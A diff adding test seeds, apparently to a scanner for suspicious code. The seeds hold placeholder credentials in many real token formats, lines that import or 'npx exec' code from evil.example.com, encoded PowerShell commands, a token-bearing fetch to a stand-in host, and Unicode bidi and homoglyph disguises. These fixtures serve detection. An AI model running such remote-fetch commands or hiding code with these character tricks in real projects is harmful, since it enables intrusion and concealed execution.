@@ -31,7 +31,27 @@ B64_SYMBOLS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
 # A line dense enough in symbols to be suspicious that decodes to printable text.
 READABLE_B64 = base64.b64encode(bytes(32 + (i * i * 11 + i * 7) % 95 for i in range(285))).decode()
 
+# Made-up values in each documented credential format that no other seed holds.
+CREDENTIALS = "\n".join(
+    [
+        "xoxb-" + "0a" * 8, "eyJ" + "a1" * 8 + ".eyJ" + "b2" * 8 + "." + "c3" * 8, "sk-proj-" + "d4" * 20, "AIza" + "e" * 35,
+        "sk_live_" + "f5" * 13, "SG." + "g" * 22 + "." + "h" * 43, "SK" + "0f" * 16, "npm_" + "i6" * 18,
+        "pypi-AgEIcHlwaS5vcmc" + "j7" * 26, "AccountKey=" + "k8" * 43 + "==", "dop_v1_" + "9e" * 32,
+        "https://hooks.slack.com/services/T0A/B1C/d2E", "12345678:AA" + "l" * 33, "shpat_" + "7b" * 16, "GOCSPX-" + "m" * 28,
+    ]
+)
+
 SEEDS = [
+    Seed("conf/keys.txt", CREDENTIALS),
+    Seed(
+        "tools/send.js",
+        "scp backup@files.example:dump.tar .\nimport(\"https://evil.example.com/m.js\")\n// https://long.example.com/" + "p/" * 260,
+    ),
+    Seed(
+        "tools/run.sh",
+        "require(child_process)\nprocess.env.PATH\nnpx exec https://evil.example.com/pkg.tgz\npowershell -e QQBB\n"
+        "powershell -EncodedCommand QQBB",
+    ),
     Seed("src/a.js", 'fetch("https://evil.example.tk/payload?token=abc")\neval("1+1")\nnew WebSocket("wss://x.example.top/a")\nvar q = axios.get("/x"); new XMLHttpRequest();'),
     Seed("src/b.js", "var a\u200bb = 1;\nif (x) \u202e return \u2066 now \u2069\u202c;\nvar c\u200bd\u200c = 2; // \u202e again"),
     Seed("src/c.js", 'var \u0435val = r\u0435quire("http");\nimp\u043ert fs; \u0435x\u0435c(1); \u0430sync \u0430w\u0430it'),
